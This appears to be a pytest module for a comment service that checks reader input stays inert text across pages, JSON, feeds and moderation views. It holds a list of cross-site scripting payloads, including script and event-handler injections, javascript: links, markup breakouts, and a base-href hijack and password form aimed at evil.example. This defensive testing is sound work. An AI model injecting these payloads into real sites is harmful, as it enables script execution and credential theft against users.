"""What readers write never becomes markup that runs: page, thread.json, feeds, moderation."""

import json

import pytest
from lxml import etree
from lxml import html as lxml_html

from comments_service.domain.comment import Grounds
from comments_service.domain.states import Verb
from tests.support import THREAD, fields
from tests.web import Desk

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example 'a\" onclick=\"alert(1)')",
    "![x](https://a.example/x.png)",
    "![x](x' onerror='alert(1))",
    "<javascript:alert(1)>",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "<!-- comments:end " + THREAD + " --><script>alert(1)</script>",
    "--> <script>alert(1)</script> <!--",
    "]]><script>alert(1)</script><![CDATA[",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "{{ 7 * 7 }} {% raw %} ${7*7}",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "https://a.example/<script>alert(1)</script>",
    "\"><base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password>",
]  # fmt: skip

ALLOWED_SCHEMES = ("http://", "https://", "mailto:", "/", "#")


def assert_harmless(html: str, where: str, ours: int = 0) -> None:
    """No element or attribute that runs; `ours` is how many scripts the page itself has."""
    page = lxml_html.fromstring(f"<div>{html}</div>" if "<html" not in html else html)
    assert len(page.xpath("//script")) == ours, where
    for element in page.iter(etree.Element):
        assert element.tag not in ("iframe", "object", "embed", "base", "style", "svg", "math"), (
            where, element.tag)  # fmt: skip
        for name, value in element.attrib.items():
            assert not name.startswith("on"), (where, name)
            assert name not in ("srcdoc", "style"), (where, name)
            if name == "formaction":
                # Our own button shows a preview.
                assert value.startswith("/comments/"), (where, value)
            if name in ("href", "src", "action"):
                assert value.startswith(ALLOWED_SCHEMES), (where, value)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_it_stays_text_wherever_it_is_shown(room, desk, client, payload):
    comment = room.published(f"Text {payload} Ende", author=f"A {payload}"[:80].strip())
    room.sent(f"Noch {payload} eines", author="Ruth")
    rejected = room.sent(f"Drittes {payload}", author="Otto")
    room.decide(rejected.id, Verb.REJECT, Grounds("OTHER", f"Weil {payload}", "rule"))
    reply = desk.post(f"comments/{comment.id}/answer", body=f"Antwort {payload}")
    assert reply.status_code == 303
    room.work()
    output = room.service.paths.output

    page = (output / "de/2026/neue-anlage/index.html").read_text("utf-8")
    assert_harmless(page, "page")
    assert page.count("<!-- comments:end") == 1
    data = json.loads((output / f"comments/{THREAD}/thread.json").read_bytes())
    assert len(data["comments"]) == 2
    for entry in data["comments"]:
        assert_harmless(entry["html"], "thread.json")
    for feed in (f"comments/{THREAD}/feed.atom", "comments/feed.atom"):
        root = etree.fromstring((output / feed).read_bytes())
        contents = root.findall(".//{*}entry/{*}content")
        assert len(contents) == 2
        for content in contents:
            assert_harmless(content.text, feed)
    for name, answer, scripts in (
        ("receipt", client.get(room.receipt(comment)), 0),
        ("rejected", client.get(room.receipt(rejected)), 0),
        ("withdraw", client.get(f"{room.receipt(comment)}/withdraw"), 0),
        ("reply", client.get(f"/comments/{THREAD}/reply/{comment.id}"), 2),
        ("queue", desk.get(), 1),
        ("published", desk.get("?tab=published"), 1),
        ("comment", desk.get(f"comments/{comment.id}"), 1),
        ("log", desk.get("log"), 0),
        ("form", client.post(f"/comments/{THREAD}",
                             data=fields(payload, author=payload[:80], email=payload)), 2),
    ):  # fmt: skip
        assert answer.status_code in (200, 422), name
        assert_harmless(answer.text, name, scripts)


@pytest.mark.parametrize("payload", PAYLOADS[:6])
def test_a_moderators_name_and_function_stay_text_too(room, payload):
    asked = room.published()
    desk = Desk(room, payload[:80])
    desk.post(f"comments/{asked.id}/answer", body="Antwort")
    room.work()

    page = (room.service.paths.output / "de/2026/neue-anlage/index.html").read_text("utf-8")
    assert_harmless(page, "page")
    assert_harmless(desk.get("log").text, "log")
    assert_harmless(desk.get().text, "queue", 1)


@pytest.mark.parametrize("value", ['"><script>alert(1)</script>', "'onfocus=alert(1) x='"])
def test_addresses_and_headers_stay_text(room, desk, client, value):
    for path in (
        f"/moderation/sign-in?next={value}&done={value}",
        f"/moderation/?tab={value}",
        f"/moderation/?done={value}&comment={value}",
        f"/moderation/?page={value}",
        f"/comments/{value}",
        f"/comments/{THREAD}/reply/{value}",
        f"/comments/receipt/{value}",
        f"/{value}",
    ):
        for browser in (client, desk.client):
            answer = browser.get(path, headers={"Accept-Language": value, "Accept": value})
            assert "<script>alert" not in answer.text, path
            assert "onfocus=alert(1) x" not in answer.text.replace("&#39;", "x&#39;"), path


def test_a_link_says_that_it_is_a_readers(room):
    room.published("Siehe [dort](https://a.example/) und https://b.example/")
    room.work()
    page = lxml_html.fromstring(
        (room.service.paths.output / "de/2026/neue-anlage/index.html").read_text("utf-8")
    )

    links = page.xpath("//div[@class='comment__text']//a")
    assert [link.get("rel") for link in links] == ["nofollow ugc noopener"] * 2
